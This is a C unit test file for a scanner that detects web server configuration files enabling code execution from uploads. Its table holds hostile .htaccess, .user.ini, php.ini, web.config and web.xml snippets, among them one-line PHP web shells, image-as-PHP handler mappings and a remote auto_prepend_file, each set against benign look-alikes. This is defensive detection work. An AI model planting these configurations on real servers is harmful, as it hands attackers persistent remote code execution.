/* Server configuration: each technique, and beside it what products ship that looks like it. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <time.h>

#include <cmocka.h>

#include "base/buf.h"
#include "base/json.h"
#include "base/str.h"
#include "sweep/config.h"

static const struct row {
    const char *what, *path, *text;
    enum found_class class;
    uint64_t line;
} rows[] = {
    {"picture as PHP", "up/.htaccess", "\nAddType application/x-httpd-php .jpg\n", FOUND_CONFIG_SHELL, 2},
    {"panel's handler", ".htaccess", "AddHandler application/x-httpd-ea-php81 .php .php8 .phtml\n", FOUND_NOTHING, 0},
    {"continued line", ".htaccess", "AddType application/x-httpd-\\\nphp .png\n", FOUND_CONFIG_SHELL, 1},
    {"everything as PHP", ".htaccess", "SetHandler application/x-httpd-php\n", FOUND_CONFIG_SHELL, 1},
    {"PHP's endings as PHP", ".htaccess",
     "<FilesMatch \"\\.(php|phtml)$\">\nSetHandler \"proxy:unix:/run/php.sock|fcgi://localhost\"\n</FilesMatch>\n",
     FOUND_NOTHING, 0},
    {"itself as PHP", ".htaccess", "<Files .htaccess>\nSetHandler application/x-httpd-php\n</Files>\n",
     FOUND_CONFIG_SHELL, 2},
    {"code in a comment", ".htaccess", "Options -Indexes\n# <?php echo 1; ?>\n", FOUND_CONFIG_SHELL, 2},
    {"code below a comment", ".htaccess", "# <?php\n# eval($_POST['k']);\n", FOUND_CONFIG_SHELL, 1},
    {"comment about tags", "php.ini", "; that <?php and ?> should be used\n; of the <?= tag, which\n; (may) be used\n",
     FOUND_NOTHING, 0},
    {"code in a setting", ".user.ini", "; <?= system($_GET['c'])\n", FOUND_CONFIG_SHELL, 1},
    {"PHP runs among pictures", "images/.user.ini", "engine = On\n", FOUND_CONFIG_SHELL, 1},
    {"all of PHP's settings", "docker/images/php.ini", "[PHP]\nengine = On\n", FOUND_NOTHING, 0},
    {"comment without code", ".htaccess", "Options -Indexes\n# echo 1;\n", FOUND_NOTHING, 0},
    {"pictures as programs", ".htaccess", "Options +ExecCGI\nAddHandler cgi-script .jpg\n", FOUND_CONFIG_SHELL, 2},
    {"programs as programs", "cgi-bin/.htaccess", "Options +ExecCGI\nAddHandler cgi-script .pl .py\n", FOUND_NOTHING,
     0},
    {"scripts switched off", "up/.htaccess", "AddHandler cgi-script .jsp .asp .htm .shtml .txt\nOptions -ExecCGI\n",
     FOUND_HINT, 1},
    {"includes in pictures", ".htaccess", "Options +Includes\nAddHandler server-parsed .jpg\n", FOUND_CONFIG_SHELL, 2},
    {"includes in shtml", ".htaccess", "Options +Includes\nAddOutputFilter INCLUDES .shtml\n", FOUND_NOTHING, 0},
    {"rewritten to PHP", ".htaccess", "RewriteRule \\.png$ - [H=application/x-httpd-php]\n", FOUND_CONFIG_SHELL, 1},
    {"rewritten to source", ".htaccess", "RewriteRule (.+\\.php)s$ $1 [H=application/x-httpd-php-source]\n",
     FOUND_NOTHING, 0},
    {"front controller", ".htaccess", "RewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule ^ index.php [L]\n",
     FOUND_NOTHING, 0},
    {"rewritten to a wrapper", ".htaccess", "RewriteRule ^x$ php://input [L]\n", FOUND_CONFIG_SHELL, 1},
    {"file shown in an error", ".htaccess", "ErrorDocument 404 \"%{file:/srv/secret}\"\n", FOUND_CONFIG_SHELL, 1},
    {"page for an error", ".htaccess", "ErrorDocument 404 /404.php\n", FOUND_NOTHING, 0},
    {"picture as an action", ".htaccess", "Action x-thing /img/logo.gif\n", FOUND_CONFIG_SHELL, 1},
    {"panel's action", ".htaccess", "Action application/x-httpd-php5 /cgi-sys/php5\n", FOUND_NOTHING, 0},
    {"prepended picture", ".htaccess", "php_value auto_prepend_file /srv/www/uploads/a.jpg\n", FOUND_CONFIG_SHELL, 1},
    {"prepended upload", ".htaccess", "php_value auto_prepend_file /srv/www/uploads/a.php\n", FOUND_CONFIG_SHELL, 1},
    {"prepended firewall", ".htaccess", "php_value auto_prepend_file '/srv/www/shop-waf.php'\n", FOUND_HINT, 1},
    {"prepended from afar", ".user.ini", "auto_prepend_file=http://203.0.113.7/a.txt\n", FOUND_CONFIG_SHELL, 1},
    {"nothing prepended", ".user.ini", "; none\nauto_prepend_file = none\n", FOUND_NOTHING, 0},
    {"PHP on among uploads", "wp-content/uploads/.htaccess", "php_flag engine on\n", FOUND_CONFIG_SHELL, 1},
    {"PHP off among uploads", "wp-content/uploads/.htaccess", "php_flag engine off\n", FOUND_NOTHING, 0},
    {"library from uploads", "php.ini", "extension=/srv/www/uploads/a.so\n", FOUND_CONFIG_SHELL, 1},
    {"library of the server", "php.ini", "extension=mysqli\nextension=gd.so\n", FOUND_NOTHING, 0},
    {"limits lifted", "php.ini", "safe_mode = off\ndisable_functions = NONE\n", FOUND_CONFIG_SHELL, 2},
    {"limits set", "php.ini", "disable_functions = exec,system\n", FOUND_NOTHING, 0},
    {"log that runs", ".user.ini", "error_log=/srv/www/a.php\n", FOUND_CONFIG_SHELL, 1},
    {"log", ".user.ini", "error_log = error_log\nmemory_limit = 64M\n", FOUND_NOTHING, 0},
    {"read as UTF-7", ".htaccess", "php_value zend.script_encoding \"UTF-7\"\n", FOUND_CONFIG_SHELL, 1},
    {"read as UTF-8", ".htaccess", "php_value zend.script_encoding \"UTF-8\"\n", FOUND_NOTHING, 0},
    {"pictures through IIS", "web.config",
     "<configuration>\n<add name=\"x\"\n path=\"*.jpg\"\n modules=\"IsapiModule\" scriptProcessor=\"asp.dll\" />\n",
     FOUND_CONFIG_SHELL, 2},
    {"PHP through IIS", "web.config", "<add name=\"x\" path=\"*.php\" modules=\"FastCgiModule\" />\n", FOUND_NOTHING,
     0},
    {"pictures built as pages", "web.config",
     "<add extension=\".png\" type=\"System.Web.Compilation.PageBuildProvider\" />\n", FOUND_CONFIG_SHELL, 1},
    {"itself as a page", "web.config", "<!-- <% Response.Write(1) %> -->\n", FOUND_CONFIG_SHELL, 1},
    {"types of static files", "web.config",
     "<staticContent><mimeMap fileExtension=\".woff2\" mimeType=\"font/woff2\" /></staticContent>\n", FOUND_NOTHING, 0},
    {"routes of an application", "web.config",
     "<add name=\"aspNetCore\" path=\"*\" verb=\"*\" modules=\"AspNetCoreModuleV2\" />\n", FOUND_NOTHING, 0},
    {"pictures as JSP", "WEB-INF/web.xml",
     "<web-app>\n<servlet-mapping><servlet-name>jsp</servlet-name>\n<url-pattern>*.jpg</url-pattern></servlet-mapping>",
     FOUND_CONFIG_SHELL, 2},
    {"pictures by a servlet", "WEB-INF/web.xml",
     "<servlet-mapping><servlet-name>thumbs</servlet-name><url-pattern>*.jpg</url-pattern></servlet-mapping>",
     FOUND_NOTHING, 0},
    {"pages of a group", "WEB-INF/web.xml",
     "<jsp-property-group><url-pattern>*.jsp</url-pattern><url-pattern>*.txt</url-pattern></jsp-property-group>",
     FOUND_CONFIG_SHELL, 1},
};

static void test_rows(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct found found = {.class = FOUND_NOTHING};
        config_look(str_of(rows[i].path), str_of(rows[i].text), &found);
        if (found.class != rows[i].class || found.line != rows[i].line) {
            print_message("%s: %s, line %llu\n", rows[i].what, found_class_name(found.class),
                          (unsigned long long)found.line);
        }
        assert_int_equal(found.class, rows[i].class);
        assert_int_equal(found.line, rows[i].line);
        assert_int_equal(found.class != FOUND_NOTHING, json_array_size(found.reasons) != 0);
        found_clear(&found);
    }
}

/* A megabyte of the worst: beginnings without ends, one endless statement, a comment after each byte. */
static void test_work_is_linear(void **state)
{
    (void)state;
    static const char *const paths[] = {"web.config", "web.xml", ".htaccess", ".user.ini"};
    static const char *const parts[] = {"<add ", "<servlet-mapping <url-pattern>", "\\\n", "AddType x-httpd-php .a "};
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
        for (size_t j = 0; j < sizeof parts / sizeof *parts; j++) {
            struct buf text = {.max = 4 << 20};
            while (text.len < 1 << 20) {
                buf_puts(&text, parts[j]);
            }
            struct found found = {.class = FOUND_NOTHING};
            clock_t began = clock();
            config_look(str_of(paths[i]), buf_str(&text), &found);
            /* Quadratic work on 1 MB takes minutes; a sanitizer on a busy machine multiplies linear work by 20. */
            assert_true(clock() - began < 20 * CLOCKS_PER_SEC);
            found_clear(&found);
            buf_free(&text);
        }
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_rows), cmocka_unit_test(test_work_is_linear)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
